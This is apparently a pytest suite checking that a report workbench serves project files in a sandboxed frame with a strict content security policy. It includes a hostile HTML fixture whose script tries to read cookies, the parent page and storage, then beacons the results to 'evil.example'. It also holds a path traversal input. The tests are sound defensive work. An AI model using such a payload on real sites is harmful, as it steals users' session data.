"""Reports of a folder: listed by what they say, and opened in a frame that reaches nothing."""

from __future__ import annotations

import html
import re
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.chromium import Browser
from tests.workbench.answered import examples, write_project
from tests.workbench.axe import violations
from tests.workbench.running import RunningWorkbench
from vqaft.data import audit_splits
from vqaft.evaluation import Evaluation, compare_models
from vqaft.report import write_audit_page, write_report
from vqaft.testing import QuickEngine
from vqaft.workbench.folder import ProjectFolder

EVIL = b"""<!doctype html><meta name="generator" content="vqaft"><meta name="description" content="&lt;b&gt;evil">
<script>
  let said = [];
  const tried = (name, act) => { try { act(); said.push(name); } catch { said.push("no " + name); } };
  tried("cookie", () => document.cookie);
  tried("parent", () => parent.document.title);
  tried("storage", () => localStorage.length);
  fetch("/workbench/jobs").then(() => document.title += " fetched", () => document.title += " not fetched");
  new Image().src = "https://evil.example/" + said;
  document.title = said.join(", ");
</script>
<form action="https://evil.example"><button>go</button></form>"""


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("project")
    comparison = write_project(folder)
    write_report(folder / "report.html", comparison, examples=examples())
    base, tuned = (Evaluation.read(folder / f"{name}.json") for name in ("base", "tuned"))
    compare_models({"base": base, "tuned": tuned, "again": tuned}, resamples=50).write(folder / "models.json")
    leaking = {"train": examples()[:3], "test": examples()[2:]}
    write_audit_page(folder / "audit.html", audit_splits(leaking))
    (folder / "evil.html").write_bytes(EVIL)
    (folder / "other.html").write_bytes(b"<h1>not vqaft's</h1>")
    (folder / "broken.json").write_bytes(b'{"format": "vqaft.comparison", "version": 99}')
    return folder


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory, project: Path) -> Iterator[RunningWorkbench]:
    engines = {"quick": QuickEngine()}
    with RunningWorkbench.started(tmp_path_factory.mktemp("bench"), engines=engines, project=project) as running:
        yield running


@pytest.fixture(scope="module")
def places(project: Path) -> dict[str, str]:
    return {file.name: f"/workbench/reports/{file.id}" for file in ProjectFolder(project).files()}


def test_reports_are_listed_by_what_they_say(page: httpx.Client, project: Path) -> None:
    text = page.get("/workbench/reports").text
    said = dict(re.findall(r"<strong>(.*?)</strong></a><br><small class=\"mono\">(.*?)</small>", text))
    named = {name: html.unescape(words) for words, name in said.items()}
    assert named["audit.html"] == "This split leaks: what is measured on it is partly memory."
    assert named["base.json"].startswith("small: lenient 33.3 %")
    assert named["evil.html"] == "<b>evil"
    assert named["models.json"].startswith("3 models: ")
    assert "99" in named["broken.json"]
    assert "report.html" in text
    assert "comparison.json" in text
    assert "other.html" not in text
    assert "test.jsonl" not in text


def frame_of(page: httpx.Client, place: str) -> str:
    """Return the page that holds a report, once it is there."""
    for _ in range(2000):
        text = page.get(place).text
        if "<iframe" in text:
            return text
        time.sleep(0.02)  # the server is in this process, and needs its time
    raise AssertionError(text)


@pytest.mark.parametrize("name", ["report.html", "comparison.json", "models.json", "audit.html"])
def test_a_report_opens_in_a_frame(page: httpx.Client, places: dict[str, str], name: str) -> None:
    assert 'sandbox="allow-scripts"' in frame_of(page, places[name])
    content = page.get(f"{places[name]}/page")
    assert content.headers["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none'")
    assert "frame-ancestors 'self'" in content.headers["content-security-policy"]
    assert 'content="vqaft"' in content.text


def test_an_evaluation_is_a_table(page: httpx.Client, places: dict[str, str]) -> None:
    text = page.get(places["base.json"]).text
    assert "small" in text
    assert "lenient" in text
    assert page.get(f"{places['base.json']}/page").status_code == httpx.codes.NOT_FOUND


def test_a_broken_comparison_says_so(page: httpx.Client, places: dict[str, str]) -> None:
    for _ in range(2000):
        text = page.get(places["broken.json"]).text
        if 'role="alert">' in text and "version" in text.partition("<main")[2]:
            break
        time.sleep(0.02)
    assert "version 99" in text
    assert page.get(f"{places['broken.json']}/page").status_code == httpx.codes.NOT_FOUND


@pytest.mark.parametrize("name", ["none", "..%2f..%2fetc%2fpasswd", "report.html", "other.html"])
def test_nothing_else_is_opened(page: httpx.Client, name: str) -> None:
    for tail in ("", "/page"):
        assert page.get(f"/workbench/reports/{name}{tail}").status_code == httpx.codes.NOT_FOUND


def test_a_report_that_becomes_a_link_is_gone(
    page: httpx.Client, project: Path, places: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "secret.html").write_bytes(EVIL)
    path = project / "gone.html"
    path.write_bytes(EVIL)
    place = next(f"/workbench/reports/{file.id}" for file in ProjectFolder(project).files() if file.path == path)
    assert page.get(f"{place}/page").status_code == httpx.codes.OK
    path.unlink()
    path.symlink_to(tmp_path / "secret.html")
    assert page.get(f"{place}/page").status_code == httpx.codes.NOT_FOUND
    path.unlink()


def test_a_hostile_report_reaches_nothing(signed_in: Browser, bench: RunningWorkbench, places: dict[str, str]) -> None:
    signed_in.open(f"{bench.url}{places['evil.html']}/page")  # alone it has no more than in the frame
    signed_in.run(
        "new Promise(done => { const look = () => document.title.includes('fetched') ? done() : setTimeout(look, 20);"
        " look(); })"
    )
    assert signed_in.run("document.title") == "no cookie, parent, no storage not fetched"  # it is its own parent here
    assert not [request for request in signed_in.requests if "/workbench/jobs" in request]
    signed_in.open(f"{bench.url}{places['evil.html']}")
    assert signed_in.run("document.querySelector('iframe').contentDocument") is None
    assert signed_in.run("document.title") == "evil.html – vqaft"


def test_a_report_is_seen_inside(signed_in: Browser, bench: RunningWorkbench, places: dict[str, str]) -> None:
    for path in ("/workbench/reports", places["report.html"], places["base.json"]):
        signed_in.open(f"{bench.url}{path}", width=360, height=740)
        assert signed_in.run("document.documentElement.scrollWidth <= innerWidth"), path
        assert violations(signed_in) == [], path
        assert signed_in.complaints == []
        assert all(request.startswith((bench.url, "data:")) for request in signed_in.requests)
